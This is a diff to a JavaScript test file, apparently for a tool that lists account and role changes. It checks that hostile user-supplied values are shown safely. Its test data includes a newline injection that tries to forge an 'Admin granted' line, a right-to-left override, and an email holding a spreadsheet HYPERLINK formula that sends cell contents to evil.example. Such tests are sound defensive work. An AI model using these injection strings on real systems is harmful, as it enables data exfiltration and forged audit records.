@@ -94,6 +94,9 @@ describe("the trust boundary", function () {
             assert.ok(!lines.some((l) => l.startsWith("  + mallory@example.com")), "no forged creation line");
             assert.ok(lines.includes(`      formalName: "Mallory\\n  + mallory@example.com: Admin granted (customer_user -> customer_admin)" -> Bob Analyst`), r.stdout);
             assert.ok(lines.some((l) => l.includes('"\\u202emoc.elpmaxe\\u202c@example.com"')), "a right-to-left override is shown as an escape");
+            // A long email (anyone can be invited with one) widens its own row, not every column.
+            assert.ok(lines.includes(`  ? ${"-1@example.com".padEnd(42)}customer_user               Activated   All Companies         last login 2026-11-01`), r.stdout);
+            assert.ok(lines.some((l) => l.startsWith(`  ? "=HYPERLINK(\\"http://evil.example/?\\"&A3,\\"Open report\\")@example.com" customer_user `)), r.stdout);
         });
 
         it("plan, markdown: no HTML, link, image or mention; every string readable", async () => {
